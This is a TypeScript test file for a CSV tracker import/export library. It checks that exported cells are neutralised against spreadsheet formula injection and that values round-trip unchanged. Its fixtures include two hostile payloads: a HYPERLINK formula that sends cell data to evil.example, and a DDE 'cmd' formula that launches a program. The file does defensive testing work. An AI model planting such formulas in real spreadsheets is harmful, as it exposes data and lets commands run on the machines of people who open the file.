import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { describe, expect, it } from 'vitest';
import { createMemoryStore, createRagtrail } from '@ragtrail/core';
import { exportAudit, exportTracker, importTracker, readTable } from '../src/index.js';
import { neutraliseCell, restoreCell } from '../src/table/formula-safe.js';
import { writeCsv } from '../src/table/write-csv.js';

const hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
const calc = "=cmd|' /C calc'!A0";
const admin = { actor: { id: 'u-1', name: calc, role: 'admin' as const } };
const formulaStart = /^[=+\-@\t\r]/;

/** Every cell of a CSV file, as a spreadsheet would see them. */
const cellsOf = (csv: string) => (parse(csv, { relax_column_count: true }) as string[][]).flat();

function trackerCsv(): string {
  const header = ['No.', 'Recommendation', 'Assigned Lead - Job Title/Name', 'Score - please select', 'Update April 17', 'Direction of Travel', 'Description of Action(s) - How', 'Owner(s) - Who', 'By When (date)'];
  return stringify([
    ['Rory Patterson', 'Name of Reviewer'], ['28.4.17', 'Date of Review'], [],
    header,
    ['1', hyperlink, calc, '2', '1', 'Improving', '-5% attendance, then +3 points', '@everyone; =1+1', 'March 2018'],
    ['2', "'=already quoted", "'80s style lead", '3', '2', 'Improving', "''=two quotes", '-', '-12'],
  ]);
}

describe('CSV exports are formula-safe and import back to the same bytes', () => {
  it('the two payloads, negative numbers and quoted values leave the tracker CSV as text and round-trip', async () => {
    const rt = createRagtrail({ store: createMemoryStore() });
    const { planId } = await importTracker(rt, { fileName: 'hostile.csv', content: trackerCsv(), planId: 'hostile' }, admin);
    const first = String((await exportTracker(rt, { planId, period: '2017-04', format: 'csv' })).body);
    const cells = cellsOf(first);
    expect(cells.filter((c) => formulaStart.test(c))).toEqual([]);
    // neutraliseCell(v) is "'" + v only for a v with no quote of its own, so these cells show the
    // payloads were stored exactly as the council typed them: the safety is in the file, not the data.
    // An uploaded "'=x" already meant the text "=x" (it is stored so); "'80s" has no formula after its quote and is kept.
    expect(cells).toEqual(expect.arrayContaining([`'${hyperlink}`, `'${calc}`, "'-5% attendance, then +3 points", "'@everyone; =1+1", "'=already quoted", "'80s style lead", "''=two quotes", "'-", "'-12"]));

    const again = await importTracker(rt, { fileName: 'exported.csv', content: first, planId: 'again' }, admin);
    const second = String((await exportTracker(rt, { planId: again.planId, period: '2017-04', format: 'csv' })).body);
    expect(second).toBe(first);
  });

  it('the audit CSV writes a formula-looking name and reason as text', async () => {
    const rt = createRagtrail({ store: createMemoryStore() });
    await importTracker(rt, { fileName: 'hostile.csv', content: trackerCsv(), planId: 'hostile' }, { ...admin, reason: hyperlink });
    const cells = cellsOf(String((await exportAudit(rt, { planId: 'hostile' })).body));
    expect(cells).toContain(`'${calc}`);
    expect(cells).toContain(`'${hyperlink}`);
    expect(cells.filter((c) => formulaStart.test(c))).toEqual([]);
  });

  it('a cell is neutralised by one leading quote, and restored by taking it off', () => {
    expect(neutraliseCell('=1+1')).toBe("'=1+1");
    expect(neutraliseCell('\tx')).toBe("'\tx");
    expect(neutraliseCell('\rx')).toBe("'\rx");
    expect(neutraliseCell("'=1")).toBe("''=1");
    expect(neutraliseCell("'80s")).toBe("'80s");
    expect(neutraliseCell('3')).toBe('3');
    expect(restoreCell("'80s")).toBe("'80s");
    expect(restoreCell("''=1")).toBe("'=1");
  });

  it('property: any text survives neutralise -> restore, and never leaves a formula at the start of a cell', () => {
    const text = fc.string({ unit: fc.oneof(fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", '"', ',', '\n'), fc.string({ maxLength: 3 })) });
    fc.assert(fc.property(text, (v) => {
      const written = neutraliseCell(v);
      expect(formulaStart.test(written)).toBe(false);
      expect(restoreCell(written)).toBe(v);
      // Export is a function of the value: writing what was read back gives the same cell.
      expect(neutraliseCell(restoreCell(written))).toBe(written);
    }));
  });

  it('property: rows written as our CSV read back as the same rows, and write the same bytes again', async () => {
    const cell = fc.string({ unit: fc.oneof(fc.constantFrom('=', '+', '-', '@', "'", '"', ',', ' ', 'a', '1', '\n'), fc.constant('x')), maxLength: 12 })
      .map((s) => s.trim());
    await fc.assert(fc.asyncProperty(fc.array(fc.array(cell, { minLength: 1, maxLength: 4 }), { minLength: 1, maxLength: 5 }), async (rows) => {
      const csv = writeCsv(rows);
      const read = await readTable({ fileName: 'p.csv', content: csv, format: 'csv' });
      expect(read.rows).toEqual(rows);
      expect(writeCsv(read.rows)).toBe(csv);
    }), { numRuns: 200 });
  });
});
